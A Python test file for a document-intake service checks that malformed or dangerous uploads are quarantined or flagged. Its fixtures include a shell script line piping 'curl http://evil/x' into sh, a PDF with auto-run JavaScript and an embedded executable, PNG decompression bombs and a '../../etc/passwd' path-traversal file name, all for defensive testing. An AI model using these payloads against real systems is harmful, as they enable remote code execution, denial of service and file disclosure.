"""The bad-input checklist of issue 4: each case ends in quarantine with a readable reason (or,
where the issue says so, accepted and flagged), the bytes are kept, and the next good document
goes through as if nothing happened."""

import base64
import dataclasses
import io
import os
import re
import zipfile
import zlib

import pikepdf
import pytest
from PIL import Image
from sqlalchemy import select

from eakte import audit
from eakte.ingest.reasons import Reason
from eakte.models import StoredObject
from eakte.models.ingest import QuarantinedFile, TransferNote
from eakte.services.intake import Outcome
from tests.ingest.conftest import born_digital_pdf, image_bytes, png_chunk, png_header, scan_image


def _truncated_pdf() -> bytes:
    data = born_digital_pdf(3)
    return data[: len(data) // 2]


def _broken_xref_pdf() -> bytes:
    data = born_digital_pdf(2)
    start = data.rindex(b"startxref")
    # the cross-reference table points nowhere and its entries are garbage
    xref = data.rindex(b"\nxref\n")
    damaged = data[:xref] + b"\nxref\n0 9\n" + b"9999999999 65535 x \n" * 9 + data[start:]
    return re.sub(rb"startxref\s+\d+", b"startxref\n12", damaged)


def _unrepairable_pdf() -> bytes:
    return b"%PDF-1.4\n" + os.urandom(2000).replace(b"obj", b"xx") + b"\n%%EOF\n"


def _encrypted_pdf() -> bytes:
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(born_digital_pdf(1))) as pdf:
        pdf.save(out, encryption=pikepdf.Encryption(owner="amt", user="geheim"))
    return out.getvalue()


def _active_pdf() -> bytes:
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(born_digital_pdf(1))) as pdf:
        pdf.Root.OpenAction = pikepdf.Dictionary(
            S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.launchURL('http://evil')")
        )
        pdf.attachments["payload.exe"] = pikepdf.AttachedFileSpec(pdf, b"MZ not run")
        pdf.save(out)
    return out.getvalue()


def _pixel_bomb() -> bytes:
    """50,000 × 50,000 grey pixels (2.5 GB decoded) in about a kilobyte."""
    idat = zlib.compress(b"\0" * 1_000_000, 9)
    return png_header(50_000, 50_000) + png_chunk(b"IDAT", idat) + png_chunk(b"IEND", b"")


def _text_chunk_bomb() -> bytes:
    """A small image carrying a text chunk that inflates to 64 MB."""
    small = image_bytes(scan_image())
    bomb = png_chunk(b"zTXt", b"Comment\0\0" + zlib.compress(b"A" * 64_000_000, 9))
    at = small.index(b"IDAT") - 4
    return small[:at] + bomb + small[at:]


def _huge_image() -> bytes:
    """30,000 × 30,000 pixels: a real (if unlikely) image, not a bomb: 1 MB of data."""
    return png_header(30_000, 30_000) + png_chunk(b"IDAT", os.urandom(1_000_000))


def _exe() -> bytes:
    pe = bytearray(512)
    pe[0:2], pe[0x3C:0x40], pe[0x80:0x84] = b"MZ", (0x80).to_bytes(4, "little"), b"PE\0\0"
    pe[0x84:0x86] = (0x14C).to_bytes(2, "little")
    return bytes(pe)


def _zip() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("antrag.pdf", born_digital_pdf(1))
    return out.getvalue()


SCRIPT = b"#!/bin/sh\ncurl http://evil/x | sh\n"  # HTML is taken in (issue 25), scripts not

QUARANTINED = [
    ("zero_byte", lambda: b"", "leer.pdf", Reason.empty, "empty"),
    ("truncated_pdf", _truncated_pdf, "halb.pdf", Reason.pdf_truncated, "cut off"),
    ("unrepairable_pdf", _unrepairable_pdf, "kaputt.pdf", Reason.pdf_damaged, "qpdf"),
    ("encrypted_pdf", _encrypted_pdf, "geheim.pdf", Reason.pdf_encrypted, "password"),
    ("decompression_bomb", _pixel_bomb, "bombe.png", Reason.decompression_bomb, "50000 × 50000"),
    ("text_chunk_bomb", _text_chunk_bomb, "text.png", Reason.decompression_bomb, "zTXt"),
    ("image_30000px", _huge_image, "riesig.png", Reason.image_too_large, "30000 × 30000"),
    ("exe", _exe, "rechnung.pdf.exe", Reason.type_not_allowed, "portable-executable"),
    ("zip", _zip, "anlagen.zip", Reason.type_not_allowed, "application/zip"),
    ("script", lambda: SCRIPT, "formular.sh", Reason.type_not_allowed, "text/x-shellscript"),
]


def _assert_next_document_goes_through(desk):
    good = desk.take(born_digital_pdf(1, "Ordnungsgemäßer Antrag"), "gut.pdf")
    assert good.outcome == Outcome.accepted
    assert desk.process(good.document.id) == "ready"


@pytest.mark.parametrize(
    ("maker", "name", "code", "words"),
    [case[1:] for case in QUARANTINED],
    ids=[case[0] for case in QUARANTINED],
)
def test_bad_input_is_quarantined_with_a_reason(desk, maker, name, code, words):
    data = maker()
    result = desk.take(data, name, source=f"import /scans/{name}")
    assert result.outcome == Outcome.quarantined and result.reason_code == code
    assert words in result.reason and desk.queued == []
    with desk.rt.session() as s:
        entry = s.get(QuarantinedFile, result.quarantined.id)
        assert entry.reason_code == code.value and entry.state == "open" and entry.size == len(data)
        assert entry.filename == name and entry.source == f"import /scans/{name}"
        stored = s.get(StoredObject, entry.stored_object_id)
        assert entry.s3_key.startswith("default/quarantine/") and stored.size == len(data)
        assert [e.action for e in audit.history(s, str(entry.uuid))] == ["quarantine"]
    with desk.rt.store.open(stored.key, stored.version_id, stored.sha256) as kept:
        assert kept.read() == data  # kept as it came, never silently dropped
    _assert_next_document_goes_through(desk)


def test_bad_input_over_the_size_limit(desk):
    desk.rt.settings = dataclasses.replace(desk.rt.settings, max_upload_mb=1)
    noise = Image.frombytes("L", (1100, 1000), os.urandom(1_100_000))
    result = desk.take(image_bytes(noise), "gross.png")
    assert result.outcome == Outcome.quarantined and result.reason_code == Reason.too_large
    assert "limit is 1,048,576 bytes" in result.reason
    _assert_next_document_goes_through(desk)


def test_bad_input_broken_xref_is_repaired_by_qpdf(desk):
    result = desk.take(_broken_xref_pdf(), "xref.pdf")
    assert result.outcome == Outcome.accepted and "repaired" in result.document.flags
    assert desk.process(result.document.id) == "ready"
    doc = desk.document(result.document.id)
    assert "Seite 2" in doc.extracted_text and doc.page_count == 2
    with desk.rt.session() as s:
        note = s.scalar(select(TransferNote).where(TransferNote.document_id == doc.id))
    assert "repaired by qpdf" in note.anomalies
    assert doc.versions[0].sha256 == doc.sha256  # the original is kept as it came, damage and all


def test_bad_input_pdf_with_javascript_and_embedded_file_is_accepted_and_flagged(desk):
    result = desk.take(_active_pdf(), "aktiv.pdf")
    assert result.outcome == Outcome.accepted
    assert set(result.document.flags.split(",")) == {"embedded_files", "javascript"}
    assert desk.process(result.document.id) == "ready"
    with desk.rt.session() as s:
        note = s.scalar(select(TransferNote).where(TransferNote.document_id == result.document.id))
    assert "contains javascript (kept, never executed)" in note.anomalies


def test_bad_input_png_named_pdf_is_handled_as_what_it_is(desk):
    """Types come from the content: a PNG named .pdf is a PNG (allowed), processed as an
    image; the mismatch is flagged and noted, and no PDF parser ever sees it."""
    result = desk.take(image_bytes(scan_image()), "Antrag.pdf")
    assert result.outcome == Outcome.accepted and "name_mismatch" in result.document.flags
    doc = desk.document(result.document.id)
    assert doc.versions[0].mime == "image/png"
    assert (
        desk.process(doc.id) == "ready"
        and "Gaststättenerlaubnis" in desk.document(doc.id).extracted_text
    )


@pytest.mark.parametrize(
    ("raw", "shown"),
    [
        ("../../etc/passwd.pdf", "passwd.pdf"),
        (b"Antr\xe4g M\xfcller \xff.pdf", "Anträg Müller ÿ.pdf"),
        ("A" * 300 + ".pdf", "A" * 196 + ".pdf"),
    ],
    ids=["dot_dot_slash", "non_utf8_bytes", "300_characters"],
)
def test_bad_input_file_names_are_made_safe_and_kept_as_given(desk, raw, shown):
    result = desk.take(born_digital_pdf(1), raw)
    assert result.outcome == Outcome.accepted
    doc = desk.document(result.document.id)
    assert doc.versions[0].filename == shown and len(shown) <= 200
    raw_bytes = raw if isinstance(raw, bytes) else raw.encode()
    with desk.rt.session() as s:
        note = s.scalar(select(TransferNote).where(TransferNote.document_id == doc.id))
    assert base64.b64decode(note.filename_raw) == raw_bytes
    assert not (desk.tmp.parent / "etc").exists()
    _assert_next_document_goes_through(desk)
